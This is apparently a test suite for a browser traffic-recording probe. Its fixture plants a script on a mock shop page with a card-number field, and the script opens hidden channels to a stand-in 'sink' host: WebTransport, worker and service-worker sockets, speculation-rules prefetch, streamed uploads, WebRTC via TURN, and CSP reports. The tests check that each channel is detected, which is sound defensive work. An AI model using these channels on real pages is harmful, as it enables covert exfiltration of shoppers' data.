import { createServer, type Server } from 'node:net';
import { createSocket, type Socket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openBrowser, type ProbeBrowser } from '../src/index.ts';
import { pageOf, type Run, run } from './support/run.ts';
import { type Site, startSite } from './support/site.ts';

/** Ways out that the probe does not let through, or that no request tells of: each is in the record all the same. */
let browser: ProbeBrowser;
let shop: Site;
let sink: Site;
let turn: Server;
let udp: Socket;
let datagrams = 0;
let seen: Run;

beforeAll(async () => {
  browser = await openBrowser();
  sink = await startSite('127.0.0.1', { '/im.js': '' });
  shop = await startSite('127.0.0.1', {});
  udp = createSocket('udp4').on('message', () => (datagrams += 1));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  turn = createServer((socket) => socket.on('error', () => undefined).resume());
  await new Promise<void>((resolve) => turn.listen(0, '127.0.0.1', resolve));
  const stun = `127.0.0.1:${udp.address().port}`;
  const relay = (turn.address() as AddressInfo).port;
  const other = `sink.localhost:${sink.port}`;
  shop.pages['/sw.js'] = `importScripts('http://${other}/im.js?from-sw');
onmessage = () => { const s = new WebSocket('ws://${other}/sw'); s.onopen = () => s.send('sw-frame') };`;
  shop.pages['/c.js'] = `
new WebTransport('https://${other}/wt?page');
new Worker(URL.createObjectURL(new Blob(["new WebTransport('https://${other}/wt?worker'); const s = new WebSocket('ws://${other}/w'); s.onopen = () => s.send('worker-frame')"])));
const rules = document.createElement('script'); rules.type = 'speculationrules';
rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://${other}/rules?card'], eagerness: 'immediate' }] });
document.head.append(rules);
const stream = new ReadableStream({ start(c) { c.enqueue(new TextEncoder().encode('streamed')); c.close() } });
fetch('http://${other}/stream', { method: 'POST', duplex: 'half', body: stream }).catch(() => {});
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage('go'));
(async () => {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${stun}' }, { urls: 'turn:turn.localhost:${relay}?transport=tcp', username: 'u', credential: 'p' }] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  const answer = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0', 'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
    'a=ice-ufrag:4929881122334455', 'a=ice-pwd:0123456789012345678901', 'a=fingerprint:sha-256 ' + Array(32).fill('AA').join(':'), 'a=setup:passive', 'a=mid:0', 'a=sctp-port:5000',
    'a=candidate:1 1 UDP 2130706431 ${stun.replace(':', ' ')} typ host', 'a=candidate:2 1 TCP 1518280447 127.0.0.1 ${relay} typ host tcptype passive', ''].join('\\r\\n');
  await peer.setRemoteDescription({ type: 'answer', sdp: answer });
})();`;
  shop.pages['/'] = '<label>カード番号 <input autocomplete="cc-number"></label><script src="/c.js"></script>';
  shop.pages['/reported'] = (_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.setHeader('content-security-policy', `img-src 'self'; report-uri http://${other}/csp`);
    response.end(`<script>new Image().src = 'http://${other}/image'</script>`);
  };
  seen = await run(browser, pageOf(`http://shop.localhost:${shop.port}/`));
});
afterAll(async () => {
  await browser.close();
  await Promise.all([shop.close(), sink.close()]);
  udp.close();
  turn.close();
});

test('WebTransport, of page and worker: that and where, never what', () => {
  const transports = seen.wire.filter((message) => message.channel === 'webtransport');
  expect(new Set(transports.map((message) => [message.url.split('?')[1], message.target].join()))).toEqual(
    new Set(['page,page', 'worker,worker']),
  );
  for (const message of transports) {
    expect(message.body.kind).toBe('unseen');
    expect(message.outcome.kind).toBe('failed');
    expect(message.initiator.stack.length).toBeGreaterThan(0);
  }
});

test('speculation rules to another site, which Chromium does not follow behind a proxy', () => {
  expect(sink.got('/rules')).toEqual([]);
  const message = seen.wire.find((item) => item.url.endsWith('/rules?card'));
  expect(message).toMatchObject({
    resource: 'prefetch',
    outcome: { kind: 'failed' },
    frameUrl: `http://shop.localhost:${shop.port}/`,
  });
});

test('a streamed upload has a body that is not seen', () => {
  const message = seen.wire.find((item) => item.url.endsWith('/stream') && item.method === 'POST');
  expect(message?.body).toMatchObject({ kind: 'unseen' });
});

test('sockets of workers and service workers, text as sent; what a service worker imports', () => {
  const sent = seen.wire.filter((message) => message.method === 'SEND');
  expect(sent.find((message) => message.text === 'worker-frame')?.target).toBe('worker');
  expect(sent.find((message) => message.text === 'sw-frame')?.target).toBe('service-worker');
  expect(seen.wire.find((message) => message.url.endsWith('?from-sw'))?.target).toBe('service-worker');
});

test('WebRTC keeps to TCP and the proxy: no datagram leaves, and what is said in the clear is read', () => {
  expect(datagrams).toBe(0);
  const connections = seen.recording.artifacts.connections;
  const hosts = connections?.kind === 'observed' ? connections.value.map(({ host }) => host) : [];
  expect(hosts).toContain('turn.localhost');
  const spoken = seen.wire.filter((message) => message.resource === 'tcp');
  expect(spoken.some((message) => message.url.startsWith('http://turn.localhost:'))).toBe(true);
  expect(spoken.some((message) => message.text.includes('4929881122334455'))).toBe(true);
});

test('a report of the page’s policy is a message with its body', async () => {
  const { wire } = await run(browser, pageOf(`http://shop.localhost:${shop.port}/reported`));
  expect(sink.got('/csp').length).toBeGreaterThan(0);
  expect(wire.find((message) => message.url.endsWith('/csp'))?.text).toContain('csp-report');
});
